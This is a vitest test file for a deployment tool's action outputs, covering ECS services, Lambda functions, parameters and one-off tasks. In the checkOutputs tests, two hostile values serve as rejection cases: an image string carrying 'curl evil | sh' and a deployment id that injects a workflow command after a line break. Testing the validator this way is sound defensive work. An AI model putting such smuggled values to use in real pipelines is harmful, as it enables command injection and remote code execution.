import { describe, expect, it } from 'vitest';
import { failed } from '../../../src/plan/verdict.ts';
import { checkOutputs, outputsOf } from '../../../src/report/outputs.ts';
import type { EcsDeployResult, EcsResult, LambdaFunctionResult, PipelineOutcome } from '../../../src/results.ts';

const REPO = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/app';
const DIGEST = `sha256:${'a'.repeat(64)}`;
const IMAGE = { reference: `${REPO}@${DIGEST}`, repository: REPO, tag: 'v1.2.3', digest: DIGEST, durationMs: 1 };
const TD = 'arn:aws:ecs:eu-west-1:123456789012:task-definition/web';

/** The ecs mode's result for one service. */
function ecs(overrides: Partial<EcsResult> = {}): EcsDeployResult {
  return services(aService(overrides));
}

function services(...results: EcsResult[]): EcsDeployResult {
  return {
    services: results,
    changed: results.some((r) => r.changed),
    verdict: results[0]?.verdict ?? { state: 'unchanged' },
  };
}

function aService(overrides: Partial<EcsResult> = {}): EcsResult {
  return {
    cluster: 'prod',
    service: 'web',
    verdict: { state: 'unchanged' },
    changed: false,
    registered: false,
    previousTaskDefinitionArn: `${TD}:1`,
    taskDefinitionArn: `${TD}:1`,
    diff: [],
    before: { image: `${REPO}:old` },
    after: { image: `${REPO}:old` },
    durationMs: 1,
    ...overrides,
  };
}

function fn(name: string, overrides: Partial<LambdaFunctionResult> = {}): LambdaFunctionResult {
  return {
    functionName: name,
    functionArn: `arn:aws:lambda:eu-west-1:123456789012:function:${name}`,
    verdict: { state: 'unchanged' },
    changed: false,
    image: IMAGE.reference,
    changes: [],
    durationMs: 1,
    ...overrides,
  };
}

function outcome(parts: Partial<PipelineOutcome>): PipelineOutcome {
  return { failures: [], skipped: [], ...parts };
}

describe('outputsOf', () => {
  it.each([
    { name: 'nothing ran', parts: {}, changed: 'false' },
    {
      name: 'only unchanged targets',
      parts: {
        ecs: ecs(),
        lambda: { functions: [fn('api')], changed: false, verdict: { state: 'unchanged' } as const },
      },
      changed: 'false',
    },
    { name: 'a changed service', parts: { ecs: ecs({ changed: true }) }, changed: 'true' },
    {
      name: 'a changed function',
      parts: { lambda: { functions: [fn('api')], changed: true, verdict: { state: 'succeeded' } as const } },
      changed: 'true',
    },
    {
      name: 'a written parameter',
      parts: {
        parameter: {
          name: '/p',
          verdict: { state: 'updated' } as const,
          changed: true,
          value: 'v1',
          version: '2',
          durationMs: 1,
        },
      },
      changed: 'true',
    },
  ])('says changed=$changed when $name', ({ parts, changed }) => {
    expect(outputsOf(outcome(parts)).changed).toBe(changed);
  });

  it('gives the resolved image, tag and digest, which win over the container image', () => {
    const out = outputsOf(outcome({ image: IMAGE, ecs: ecs() }));
    expect(out).toMatchObject({ image: IMAGE.reference, 'image-tag': 'v1.2.3', 'image-digest': DIGEST });
  });

  it("gives the container's image when the image mode did not run", () => {
    expect(outputsOf(outcome({ ecs: ecs() })).image).toBe(`${REPO}:old`);
  });

  it('gives one function as plain values and several as JSON objects keyed by the name as given', () => {
    expect(
      outputsOf(
        outcome({
          lambda: { functions: [fn('api', { version: '3' })], changed: true, verdict: { state: 'succeeded' } as const },
        }),
      ),
    ).toMatchObject({
      'lambda-function-arn': 'arn:aws:lambda:eu-west-1:123456789012:function:api',
      'lambda-version': '3',
    });
    const several = outputsOf(
      outcome({
        lambda: {
          functions: [fn('api', { version: '3' }), fn('worker', { version: '9' })],
          changed: true,
          verdict: { state: 'succeeded' } as const,
        },
      }),
    );
    expect(JSON.parse(several['lambda-function-arn'] ?? '')).toEqual({
      api: 'arn:aws:lambda:eu-west-1:123456789012:function:api',
      worker: 'arn:aws:lambda:eu-west-1:123456789012:function:worker',
    });
    expect(JSON.parse(several['lambda-version'] ?? '')).toEqual({ api: '3', worker: '9' });
  });

  it('leaves lambda-version out when nothing was published', () => {
    expect(
      outputsOf(
        outcome({ lambda: { functions: [fn('api')], changed: true, verdict: { state: 'succeeded' } as const } }),
      ),
    ).not.toHaveProperty('lambda-version');
  });

  it('gives the parameter version, and the deployment id only when one started', () => {
    const out = outputsOf(
      outcome({
        ecs: ecs({ deploymentId: 'ecs-svc/1' }),
        parameter: {
          name: '/p',
          verdict: { state: 'unchanged' },
          changed: false,
          value: 'v1',
          version: '4',
          durationMs: 1,
        },
      }),
    );
    expect(out).toMatchObject({ 'deployment-id': 'ecs-svc/1', 'parameter-version': '4' });
    expect(outputsOf(outcome({ ecs: ecs() }))).not.toHaveProperty('deployment-id');
  });
});

describe('outputsOf for several services', () => {
  const record = (service: string) => ({
    arn: `arn:aws:ecs:eu-west-1:123456789012:service-deployment/prod/${service}/x`,
    strategy: 'ROLLING' as const,
    stages: [],
    alarms: { watched: [], triggered: [] },
    hooks: [],
  });
  const web = aService({
    service: 'web',
    changed: true,
    taskDefinitionArn: `${TD}:2`,
    deploymentId: 'ecs-svc/1',
    serviceDeployment: record('web'),
  });
  const worker = aService({
    service: 'worker',
    changed: true,
    previousTaskDefinitionArn: `${TD}-worker:7`,
    taskDefinitionArn: `${TD}-worker:8`,
    deploymentId: 'ecs-svc/2',
    serviceDeployment: record('worker'),
  });

  it('gives the ECS outputs as JSON objects keyed by the service as the input named it', () => {
    const out = outputsOf(outcome({ ecs: services(web, worker) }));
    expect(JSON.parse(out['task-definition-arn'] ?? '')).toEqual({ web: `${TD}:2`, worker: `${TD}-worker:8` });
    expect(JSON.parse(out['previous-task-definition-arn'] ?? '')).toEqual({ web: `${TD}:1`, worker: `${TD}-worker:7` });
    expect(JSON.parse(out['deployment-id'] ?? '')).toEqual({ web: 'ecs-svc/1', worker: 'ecs-svc/2' });
    expect(JSON.parse(out['service-deployment-arn'] ?? '')).toEqual({
      web: record('web').arn,
      worker: record('worker').arn,
    });
    expect(out.changed).toBe('true');
    expect(checkOutputs(out).problems).toEqual([]);
  });

  it('keeps one service plain, as before', () => {
    const out = outputsOf(outcome({ ecs: services(web) }));
    expect(out).toMatchObject({
      'task-definition-arn': `${TD}:2`,
      'previous-task-definition-arn': `${TD}:1`,
      'deployment-id': 'ecs-svc/1',
      'service-deployment-arn': record('web').arn,
    });
  });

  it('holds only the services that have a value: no deployment for an unchanged one, no ARN for one a dry run would register', () => {
    const unchanged = aService({ service: 'worker' });
    const planned = aService({ service: 'api', taskDefinitionArn: '' });
    const out = outputsOf(outcome({ ecs: services(web, unchanged, planned) }));
    expect(JSON.parse(out['deployment-id'] ?? '')).toEqual({ web: 'ecs-svc/1' });
    expect(JSON.parse(out['task-definition-arn'] ?? '')).toEqual({ web: `${TD}:2`, worker: `${TD}:1` });
  });

  it("gives 'image' without the image mode only when every service runs the same one", () => {
    expect(outputsOf(outcome({ ecs: services(web, worker) })).image).toBe(`${REPO}:old`);
    const other = aService({ service: 'worker', after: { image: `${REPO}:other` } });
    expect(outputsOf(outcome({ ecs: services(web, other) }))).not.toHaveProperty('image');
  });
});

describe('outputsOf for a one-off task', () => {
  const task = {
    cluster: 'prod',
    verdict: failed('task-failed', 'exit code 1'),
    changed: true,
    taskDefinitionArn: `${TD}:3`,
    taskArn: 'arn:aws:ecs:eu-west-1:123456789012:task/prod/abc123',
    exitCode: 1,
    logs: [],
    durationMs: 1,
  };

  it('gives the task ARN and exit code, and counts a started task as a change', () => {
    expect(outputsOf(outcome({ runTask: task }))).toMatchObject({
      'task-arn': 'arn:aws:ecs:eu-west-1:123456789012:task/prod/abc123',
      'task-exit-code': '1',
      changed: 'true',
    });
  });

  it('leaves them out when no task started', () => {
    const { taskArn: _a, exitCode: _e, ...notStarted } = task;
    const out = outputsOf(outcome({ runTask: { ...notStarted, changed: false } }));
    expect(out).not.toHaveProperty('task-arn');
    expect(out).not.toHaveProperty('task-exit-code');
  });
});

describe('checkOutputs', () => {
  it('keeps a valid image reference and plain values', () => {
    const values = { image: '123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:v1', changed: 'true' };
    expect(checkOutputs(values)).toEqual({ values, problems: [] });
  });

  it.each([
    [
      'an image that is no reference',
      { image: 'app:v1; curl evil | sh' },
      /^Output 'image' \('app:v1; curl evil \| sh'\) is not an image reference: .* It was not set/,
    ],
    [
      'a value with a line break',
      { 'deployment-id': 'ecs-svc/1\n::add-mask::x' },
      /^Output 'deployment-id' was not set: .*line break/,
    ],
  ])('leaves out %s and says why', (_, values, says) => {
    const { values: kept, problems } = checkOutputs(values);
    expect(kept).toEqual({});
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(says);
  });

  it.each([
    ['created', 'true'],
    ['updated', 'true'],
    ['unchanged', 'false'],
    ['superseded', 'false'],
    ['planned', 'false'],
  ] as const)('says parameter-written is %s -> %s: true only when this run wrote a new version', (state, written) => {
    const parameter = {
      name: '/p',
      verdict: { state },
      changed: state === 'created' || state === 'updated',
      value: 'v1',
      durationMs: 1,
    };
    expect(outputsOf(outcome({ parameter }))['parameter-written']).toBe(written);
  });

  it('leaves parameter-written out when the write failed: whether it landed is unknown', () => {
    const parameter = { name: '/p', verdict: failed('error', 'boom'), changed: false, value: 'v1', durationMs: 1 };
    expect(outputsOf(outcome({ parameter }))).not.toHaveProperty('parameter-written');
  });
});
